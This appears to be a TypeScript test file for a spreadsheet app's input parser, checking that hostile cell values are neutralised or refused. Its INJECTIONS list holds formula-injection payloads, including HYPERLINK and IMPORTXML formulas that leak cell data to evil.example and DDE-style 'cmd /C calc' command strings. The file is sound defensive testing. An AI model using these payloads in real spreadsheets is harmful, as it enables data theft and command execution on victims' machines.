/** Hostile input: formula injection, control characters, oversize and malformed values never reach a cell live. */

import { isSheetDateMarker, parseCellInput, toSheetLiteral } from '../../src/domain/values';
import type { ParseContext, ValueRule, ValueType } from '../../src/domain/value-types';
import { SHEETS } from '../../src/schema';

const ctx: ParseContext = { locale: 'fr', timeZone: 'Europe/Paris' };
const column = (type: ValueType, extra: Partial<ValueRule> = {}): ValueRule => ({
  key: 'field',
  header: 'Champ',
  type,
  ...extra,
});

/** Payloads from CSV/formula-injection write-ups, plus spreadsheet-specific ones. */
const INJECTIONS = [
  '=HYPERLINK("https://evil.example/?leak="&A1, "Cliquez ici")',
  '=IMPORTXML(CONCAT("https://evil.example/?", A1:A10), "//a")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
  '==1',
  '\t=1+1',
  '\r=1+1',
  "\r\n=cmd|'/C calc'!A0",
  '＝1+1',
  "'=1+1",
  '{=1+1}',
  '=IMAGE("https://evil.example/pixel.png")',
];

describe('formula injection', () => {
  it.each(INJECTIONS)('%p becomes an inert literal in a text column', (payload) => {
    const result = parseCellInput(column('text'), payload, ctx);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const literal = toSheetLiteral(result.value, column('text'));
    expect(typeof literal).toBe('string');
    expect(String(literal).startsWith("'")).toBe(true);
    expect(String(literal).slice(1)).toBe(payload.trim());
  });

  it.each(INJECTIONS)('%p is refused by number and money columns', (payload) => {
    for (const type of ['number', 'money', 'integer', 'percent'] as const) {
      const result = parseCellInput(column(type), payload, ctx);
      expect(result.ok ? 'accepted' : result.error.code).toMatch(/^invalid_(number|amount)$/);
    }
  });

  it.each(INJECTIONS)('%p is refused by date, time, email, phone, url and enum columns', (payload) => {
    const expectations: Array<[ValueType, string, Partial<ValueRule>]> = [
      ['date', 'invalid_date', {}],
      ['datetime', 'invalid_datetime', {}],
      ['time', 'invalid_time', {}],
      ['duration', 'invalid_duration', {}],
      ['email', 'invalid_email', {}],
      ['phone', 'invalid_phone', {}],
      ['url', 'invalid_url', {}],
      ['boolean', 'invalid_boolean', {}],
      ['enum', 'not_in_list', { options: ['Oui', 'Non'] }],
      ['id', 'invalid_id', {}],
    ];
    for (const [type, code, extra] of expectations) {
      const result = parseCellInput(column(type, extra), payload, ctx);
      expect([type, result.ok ? 'accepted' : result.error.code]).toEqual([type, code]);
    }
  });

  it('never lets a live string through, whatever the column of the schema', () => {
    let written = 0;
    for (const sheet of SHEETS) {
      for (const def of [...sheet.columns, ...(sheet.settings ?? [])]) {
        for (const payload of [...INJECTIONS, ...NASTY]) {
          const result = parseCellInput(def, payload, ctx);
          if (!result.ok) continue;
          const literal = toSheetLiteral(result.value, def);
          written++;
          if (typeof literal === 'string' && literal !== '') {
            expect([sheet.key, def.key, literal.charAt(0)]).toEqual([sheet.key, def.key, "'"]);
          } else if (typeof literal === 'object') {
            expect(isSheetDateMarker(literal)).toBe(true);
          } else {
            expect(['number', 'boolean']).toContain(typeof literal);
          }
        }
      }
    }
    expect(written).toBeGreaterThan(100);
  });
});

const NASTY = [
  'a'.repeat(50_001),
  '31/02/2026',
  '12,34,56 €',
  '1 234,567 €',
  'Atelier \u0000 vélo',
  'Fin\u0007',
  'Demi \ud83d surrogate',
  '\u202eevil\u202c',
  '😀🎉 Fête des voisins',
  'שלום עולם',
];

describe('other hostile input', () => {
  it('refuses 50,001 characters, even in long text', () => {
    for (const type of ['text', 'longText'] as const) {
      const result = parseCellInput(column(type), 'x'.repeat(50_001), ctx);
      expect(result.ok ? 'accepted' : result.error.code).toBe('too_long');
    }
  });

  it('refuses control characters and lone surrogates', () => {
    for (const input of [
      'Atelier \u0000 vélo',
      'Fin\u0007',
      'a\u001bb',
      'del\u007f',
      'Demi \ud83d surrogate',
      'x\udc00',
    ]) {
      const result = parseCellInput(column('longText'), input, ctx);
      expect(result.ok ? 'accepted' : result.error.code).toBe('invalid_characters');
    }
  });

  it('refuses impossible dates and malformed amounts', () => {
    const date = parseCellInput(column('date'), '31/02/2026', ctx);
    expect(date.ok ? 'accepted' : date.error.code).toBe('nonexistent_day');
    for (const amount of ['12,34,56 €', '1 234,567 €', '12 €€', '€-€12', '1 2 3']) {
      const result = parseCellInput(column('money'), amount, ctx);
      expect([amount, result.ok ? 'accepted' : result.error.code]).toEqual([amount, 'invalid_amount']);
    }
  });

  it('keeps emoji and right-to-left text as inert literals', () => {
    for (const text of ['😀🎉 Fête des voisins', 'שלום עולם', 'مرحبا', '\u202eevil\u202c']) {
      const result = parseCellInput(column('text'), text, ctx);
      expect(result).toEqual({ ok: true, value: text });
      expect(toSheetLiteral(text, column('text'))).toBe(`'${text}`);
    }
  });
});
